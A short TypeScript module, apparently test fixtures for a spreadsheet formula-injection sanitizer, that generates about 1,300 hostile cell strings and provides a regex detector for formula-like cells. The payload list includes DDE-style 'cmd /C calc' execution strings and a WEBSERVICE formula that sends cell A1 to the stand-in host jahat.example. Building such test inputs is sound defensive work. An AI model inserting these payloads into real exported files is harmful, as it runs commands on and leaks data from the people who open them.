const openers = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫']
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://jahat.example","klik")',
  'WEBSERVICE("http://jahat.example/"&A1)',
  '1+1',
  'SUM(1;2)',
  'DDE("cmd";"/C calc";"x")',
]
const leads = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '"',
  "'",
  '\u200b',
  '\u00a0',
  '\ufeff',
  '\u202e',
  '\u2028',
  'Budi;',
  'Budi,',
  'Budi\n',
  'Budi|',
  'Budi\t',
]

/** Texts that a spreadsheet program must not run, however they are hidden. Some 1,300. */
export function dangerousCells(): string[] {
  return leads.flatMap((lead) => openers.flatMap((opener) => bodies.map((body) => `${lead}${opener}${body}`)))
}

/** Whether a program may take it for a formula: what it begins with, blanks and invisible letters put aside. */
export function formulaLike(cell: string): boolean {
  return /^[\s"\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell)
}
